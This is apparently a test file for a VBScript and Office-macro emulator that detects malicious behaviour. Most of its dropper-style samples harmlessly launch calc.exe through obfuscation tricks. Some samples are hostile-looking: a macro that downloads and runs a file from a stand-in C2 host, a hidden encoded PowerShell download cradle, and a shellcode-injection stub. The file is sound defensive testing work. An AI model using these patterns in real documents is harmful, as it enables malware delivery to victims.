// Harmless scripts and macros of our own, written as droppers are: what each does must stand in its trace.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { firstSetting } from '../../src/emulate/setting.ts'
import { runMacro, runVbScript } from '../../src/emulate/vb/run-vb.ts'
import { analyzeTrace } from '../../src/trace/analyze.ts'
import type { Trace } from '../../src/trace/trace.ts'

const setting = (name: string) => firstSetting(name, new Date('2026-03-02T10:00:00Z'), () => performance.now())
const scriptTrace = async (source: string): Promise<Trace> => (await runVbScript(source, setting('a.vbs'))).trace
const macroTrace = async (source: string): Promise<Trace> => (await runMacro(source, setting('a.docm'))).trace
const commands = (trace: Trace): readonly string[] => trace.processes.slice(1).map(({ commandLine }) => commandLine)
const idsOf = (trace: Trace): readonly string[] => analyzeTrace([trace], { path: 'a' }).findings.map(({ id }) => id)

/** Each ends in `Run "calc.exe"` when the language is understood. */
const RUN = 'CreateObject("WScript.Shell").Run "calc.exe", 0'
const LANGUAGE: Readonly<Record<string, string>> = {
  'a call without brackets': RUN,
  'an object in a variable': 'Dim s : Set s = CreateObject("WScript" & ".Shell")\r\ns.Run "calc.exe", 0, False',
  'a name put together from codes': 'x = Chr(99) & Chr(&H61) & "lc" & ".exe"\r\nCreateObject("WScript.Shell").Run x',
  reversed: 'CreateObject("WScript.Shell").Run StrReverse("exe.clac")',
  'codes in a loop':
    'For Each c In Array(99,97,108,99,46,101,120,101)\r\n s = s & Chr(c)\r\nNext\r\nCreateObject("WScript.Shell").Run s',
  'codes in a text':
    'p = Split("100|98|109|100|47|102|121|102", "|")\r\nFor i = 0 To UBound(p)\r\n s = s & Chr(CInt(p(i)) - 1)\r\nNext\r\nCreateObject("WScript.Shell").Run s',
  'a decoder of its own':
    'Function d(t, k)\r\nDim i\r\nFor i = 1 To Len(t) Step 2\r\nd = d & Chr(CLng("&H" & Mid(t, i, 2)) Xor k)\r\nNext\r\nEnd Function\r\nCreateObject("WScript.Shell").Run d("696b6669246f726f", 10)',
  'text that becomes code': 'Execute "Create" & "Object(""WScript.Shell"").Run ""calc.exe"""',
  'code in the global scope':
    'ExecuteGlobal "Sub go : CreateObject(""WScript.Shell"").Run ""calc.exe"" : End Sub"\r\ngo',
  'replaced words': 'CreateObject(Replace("WScrXXXipt.SheXXXll","XXX","")).Run Replace("calZc.eZxe","Z","")',
  'a condition in one line': 'a = 1 : If a = 1 Then CreateObject("WScript.Shell").Run "calc.exe" Else WScript.Quit',
  'blocks of conditions':
    'a = 3\r\nIf a = 1 Then\r\nWScript.Quit\r\nElseIf a = 3 Then\r\nSelect Case a\r\nCase 1, 2\r\nWScript.Quit\r\nCase 3 : CreateObject("WScript.Shell").Run "calc.exe"\r\nCase Else\r\nWScript.Quit\r\nEnd Select\r\nEnd If',
  'errors that are passed over':
    'On Error Resume Next\r\nx = 1 / 0\r\nSet y = Nothing\r\ny.Go\r\nIf Err.Number <> 0 Then CreateObject("WScript.Shell").Run "calc.exe"',
  'a do loop with an end in the middle':
    'i = 0\r\nDo While True\r\ni = i + 1\r\nIf i > 5 Then Exit Do\r\nLoop\r\nIf i = 6 Then CreateObject("WScript.Shell").Run "calc.exe"',
  'a with block': 'With CreateObject("WScript.Shell")\r\n.Run "calc.exe"\r\nEnd With',
  'a class':
    'Class K\r\nPublic n\r\nPrivate Sub Class_Initialize\r\nn = "calc"\r\nEnd Sub\r\nPublic Function Go(x)\r\nCreateObject("WScript.Shell").Run n & x\r\nEnd Function\r\nEnd Class\r\nSet k1 = New K\r\nk1.Go ".exe"',
  'a parameter that comes back':
    'Sub fill(x)\r\nx = "calc.exe"\r\nEnd Sub\r\nfill v\r\nCreateObject("WScript.Shell").Run v',
  'a regular expression':
    'Set r = New RegExp\r\nr.Pattern = "[0-9]" : r.Global = True\r\nCreateObject("WScript.Shell").Run r.Replace("c1a2l3c.4exe", "")',
  'a dictionary':
    'Set d = CreateObject("Scripting.Dictionary")\r\nd.Add "a", "calc.exe"\r\nd("b") = 1\r\nIf d.Exists("b") Then CreateObject("WScript.Shell").Run d("a")',
  'lines that go on': 'CreateObject( _\r\n  "WScript.Shell" _\r\n).Run _\r\n  "calc.exe"',
  'a dynamic array':
    'ReDim a(1)\r\na(0) = "calc"\r\nReDim Preserve a(3)\r\na(3) = ".exe" \' a comment\r\nCreateObject("WScript.Shell").Run a(0) & a(3)',
  'WMI starts it': 'GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "calc.exe", Null, Null, p',
  'bytes through XML':
    'Set e = CreateObject("MSXML2.DOMDocument").createElement("b")\r\ne.DataType = "bin.base64"\r\ne.Text = "Y2FsYy5leGU="\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type = 1 : s.Open : s.Write e.nodeTypedValue\r\ns.Position = 0 : s.Type = 2 : s.Charset = "us-ascii"\r\nCreateObject("WScript.Shell").Run s.ReadText',
}

for (const [name, source] of Object.entries(LANGUAGE)) {
  test(`VBScript: ${name}`, async () => {
    const trace = await scriptTrace(source)
    assert.deepEqual(commands(trace), ['calc.exe'], JSON.stringify([trace.exit, trace.notCovered]))
  })
}

const macro = (body: string, entry = 'Sub AutoOpen()'): string =>
  `Attribute VB_Name = "Module1"\r\n${entry}\r\n${body}\r\nEnd Sub\r\n`
const MACROS: Readonly<Record<string, string>> = {
  'the document is opened': macro('Shell "calc.exe", vbHide'),
  'the workbook is opened': macro('Shell "calc.exe", vbHide', 'Private Sub Workbook_Open()'),
  'only when it is closed': macro('Shell "calc.exe"', 'Sub Document_Close()'),
  'through other procedures': `${macro('Call go("calc")')}Private Sub go(ByVal x As String)\r\nDim s As Object\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run x & ".exe", 0, True\r\nEnd Sub\r\n`,
  'a jump over errors': macro(
    'On Error GoTo bad\r\nDim x As Long\r\nx = CLng("no")\r\nExit Sub\r\nbad:\r\nShell "calc.exe", 0',
  ),
  'an environment in between': macro(
    'If Application.UserName <> "" And ActiveDocument.Name <> "" Then Shell "calc.exe", vbHide',
  ),
  'types and constants': macro(
    'Const A As String = "ca"\r\nDim b$, i%\r\nb$ = "lc"\r\nFor i% = 1 To 1\r\nShell A & b$ & ".exe", 0\r\nNext i%',
  ),
}

for (const [name, source] of Object.entries(MACROS)) {
  test(`a macro: ${name}`, async () => {
    const trace = await macroTrace(source)
    assert.deepEqual(commands(trace), ['calc.exe'], JSON.stringify([trace.exit, trace.notCovered]))
    assert.ok(idsOf(trace).includes('trace_document_starts_program'))
  })
}

test('a macro that downloads with a function of Windows', async () => {
  const trace = await macroTrace(
    `Private Declare PtrSafe Function fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As LongPtr) As Long\r\n${macro('Dim p As String\r\np = Environ("TEMP") & "\\a.exe"\r\nfetch 0, "http://c2.example/a", p, 0, 0\r\nShell p, vbHide')}`,
  )
  assert.ok(idsOf(trace).includes('trace_downloads_and_runs'))
  assert.equal(analyzeTrace([trace], { path: 'a' }).verdict?.label, 'malicious')
})

test('a macro that runs code in its own memory', async () => {
  const trace = await macroTrace(
    `Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr\r\nPrivate Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal a As LongPtr, ByRef b As Any, ByVal c As Long) As LongPtr\r\nPrivate Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As LongPtr, ByVal e As Long, f As Long) As LongPtr\r\n${macro('Dim b, i, m\r\nb = Array(252, 232, 130)\r\nm = VirtualAlloc(0, UBound(b), &H1000, &H40)\r\nFor i = 0 To UBound(b)\r\nRtlMoveMemory m + i, b(i), 1\r\nNext\r\nCreateThread 0, 0, m, 0, 0, 0')}`,
  )
  assert.ok(idsOf(trace).includes('trace_injects_into_process'))
})

test('a file that a macro writes by number is left behind', async () => {
  const trace = await macroTrace(
    macro(
      'Open Environ("TEMP") & "\\a.vbs" For Output As #1\r\nPrint #1, "MsgBox 1"\r\nClose #1\r\nShell "wscript " & Environ("TEMP") & "\\a.vbs"',
    ),
  )
  assert.match(trace.dropped[0]?.path ?? '', /\\Temp\\a\.vbs$/)
  assert.ok(idsOf(trace).includes('trace_runs_dropped_program'))
})

test('PowerShell that a macro starts is followed', async () => {
  const encoded = Buffer.from(
    "IEX (New-Object Net.WebClient).DownloadString('http://c2.example/a.ps1')",
    'utf16le',
  ).toString('base64')
  const trace = await macroTrace(macro(`Shell "powershell -nop -w hidden -enc ${encoded}", vbHide`))
  assert.ok(trace.network.some((event) => event.kind === 'http' && event.url === 'http://c2.example/a.ps1'))
  for (const id of ['trace_runs_encoded_powershell', 'trace_downloads_and_runs'])
    assert.ok(idsOf(trace).includes(id), id)
})

const ORDINARY: Readonly<Record<string, readonly ['script' | 'macro', string]>> = {
  'drives and printers at logon': [
    'script',
    'Set n = CreateObject("WScript.Network")\r\nn.MapNetworkDrive "H:", "\\\\fs01\\home"\r\nn.AddWindowsPrinterConnection "\\\\ps01\\floor2"',
  ],
  'an inventory': [
    'script',
    'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\r\nFor Each o In w.ExecQuery("SELECT * FROM Win32_OperatingSystem")\r\nWScript.Echo o.Caption & " " & o.Version\r\nNext',
  ],
  'old logs removed': [
    'script',
    'Set f = CreateObject("Scripting.FileSystemObject")\r\nFor Each x In f.GetFolder("C:\\logs").Files\r\nIf DateDiff("d", x.DateLastModified, Now) > 30 Then x.Delete\r\nNext',
  ],
  'a report is formatted': [
    'macro',
    macro(
      'Dim i\r\nFor i = 1 To 10\r\nCells(i, 1).Value = i * 2\r\nNext\r\nRange("A1").Font.Bold = True\r\nMsgBox "Done"',
    ),
  ],
  'a form letter': ['macro', macro('Selection.TypeText Text:="Dear " & Application.UserName\r\nActiveDocument.Save')],
}

for (const [name, [kind, source]] of Object.entries(ORDINARY)) {
  test(`an ordinary ${kind} is not accused: ${name}`, async () => {
    const trace = kind === 'script' ? await scriptTrace(source) : await macroTrace(source)
    const { verdict } = analyzeTrace([trace], { path: 'a' })
    assert.ok(verdict === null || verdict.label === 'unknown', JSON.stringify(verdict))
  })
}

const EXHAUSTING: Readonly<Record<string, string>> = {
  'a loop without end': 'Do\r\nLoop',
  'errors passed over without end': 'On Error Resume Next\r\nDo\r\nx = 1 / 0\r\nLoop',
  'a text that doubles': 's = "x"\r\nDo\r\ns = s & s\r\nLoop',
  'calls without end': 'Sub f\r\nf\r\nEnd Sub\r\nf',
  'a great array': 'Dim a(9999, 9999, 9999)',
  'text that becomes code without end': 'Sub g : Execute "g" : End Sub\r\ng',
  'deep brackets': `x = ${'('.repeat(50_000)}1${')'.repeat(50_000)}`,
  'deep blocks': 'If True Then\r\n'.repeat(20_000),
  'a long chain': `x = ${'"a" & '.repeat(50_000)}"b"`,
  'a jump without end': 'Sub h\r\non error goto 0\r\nagain:\r\nGoTo again\r\nEnd Sub\r\nh',
  'a wait': 'WScript.Sleep 999999999\r\nt = Timer\r\nDo While Timer < t + 30\r\nLoop',
  noise: '\u0000\u0001"(((&H ]]] :::: Dim Dim If Then Else End End Sub'.repeat(2_000),
}

for (const [name, source] of Object.entries(EXHAUSTING)) {
  test(`${name} ends in a told result`, async () => {
    const startedMs = performance.now()
    for (const trace of [await scriptTrace(source), await macroTrace(macro(source))])
      assert.ok(trace.exit.how.length > 0)
    assert.ok(performance.now() - startedMs < 60_000)
  })
}

test('a program that a button starts weighs less than one that nobody asked for, a shell does not', async () => {
  const scoreOf = async (source: string): Promise<number> =>
    analyzeTrace([await macroTrace(source)], { path: 'a' }).verdict?.score ?? 0
  const byHand = await scoreOf('Private Sub CommandButton1_Click()\r\nShell "calc.exe", 1\r\nEnd Sub')
  assert.ok(byHand > 0 && byHand < 300, String(byHand))
  for (const source of [
    'Sub AutoOpen()\r\nShell "calc.exe", 1\r\nEnd Sub',
    'Private Sub InkEdit1 _\r\n_GotFocus()\r\nEnd Sub\r\nSub InkEdit1_Painted()\r\nShell "calc.exe", 1\r\nEnd Sub',
    'Sub Loaded(r As IRibbonUI)\r\nEnd Sub\r\nSub a()\r\nShell "calc.exe", 1\r\nEnd Sub',
    'Function Price()\r\nEnd Function\r\nSub a()\r\nShell "calc.exe", 1\r\nEnd Sub',
    'Private Sub CommandButton1_Click()\r\nShell "cmd /c calc.exe", 1\r\nEnd Sub',
  ])
    assert.ok((await scoreOf(source)) >= 300, source)
})

test('a version that is asked of the own network is no further stage, one of a server outside is', async () => {
  const asks = (url: string): string =>
    macro(`Set h = CreateObject("WinHttp.WinHttpRequest.5.1")\r\nh.Open "GET", "${url}", False\r\nh.Send`)
  const scoreOf = async (url: string): Promise<number> =>
    analyzeTrace([await macroTrace(asks(url))], { path: 'a' }).verdict?.score ?? 0
  assert.ok((await scoreOf('http://intranet/version.txt')) < (await scoreOf('http://files.example/version.txt')))
})

test('functions by the modules of the language’s library', async () => {
  for (const call of [
    'Interaction.Shell "calc.exe", 0',
    'VBA.Interaction.Shell "calc.exe", 0',
    'VBA.Shell "calc.exe", 0',
  ])
    assert.deepEqual(commands(await macroTrace(macro(call))), ['calc.exe'], call)
})
